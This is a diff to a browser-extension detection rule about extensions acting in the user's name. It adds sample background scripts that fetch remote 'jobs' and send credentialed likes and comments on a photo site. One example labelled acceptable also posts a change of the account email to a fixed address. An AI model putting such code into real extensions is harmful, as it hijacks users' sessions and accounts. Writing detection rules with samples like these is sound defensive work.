@@ -133,8 +133,20 @@ export const actsInPersonsName = defineRule({
       backgroundExample(
         'chrome.alarms.onAlarm.addListener(async () => { const jobs = await (await fetch("https://jobs.example/next")).json(); for (const { how, where, what } of jobs) await fetch("https://www.photos.example.com" + where, { method: how ?? "POST", body: what, credentials: "include" }); });',
       ),
+      backgroundExample(
+        'function get(url, then) { const x = new XMLHttpRequest(); x.open("GET", url); x.onload = () => then(JSON.parse(x.responseText)); x.send(); } chrome.alarms.onAlarm.addListener(() => get("https://jobs.example/next", (jobs) => jobs.forEach((job) => { const x = new XMLHttpRequest(); x.open("POST", "https://www.photos.example.com/likes/" + job.id); x.withCredentials = true; x.send(); })));',
+      ),
+      backgroundExample(
+        'chrome.alarms.onAlarm.addListener(async () => { const job = await (await fetch("https://jobs.example/next")).json(); const x = new XMLHttpRequest(); x.withCredentials = true; x.open("POST", "https://www.photos.example.com/comments"); x.send("text=" + job.text); });',
+      ),
+      backgroundExample(
+        'chrome.alarms.onAlarm.addListener(() => $.ajax({ url: "https://jobs.example/next", success: (job) => $.ajax({ type: "POST", url: "https://www.photos.example.com/comments", data: { text: job.text }, xhrFields: { withCredentials: true } }) }));',
+      ),
     ],
     good: [
+      backgroundExample(
+        'chrome.alarms.onAlarm.addListener(() => { const x = new XMLHttpRequest(); x.open("GET", "https://api.tool.example/tasks"); x.onload = () => { const { id } = JSON.parse(x.responseText); const y = new XMLHttpRequest(); y.withCredentials = true; y.open("POST", "https://api.tool.example/done"); y.send("id=" + id); }; x.send(); });',
+      ),
       // On the person's click, of what they typed, and where the extension says so.
       contentExample(
         'panel.addEventListener("click", () => { document.querySelector("[aria-label=Follow]").click(); fetch("/account/email", { method: "POST", body: JSON.stringify({ email: "owner@x.example" }) }); });',
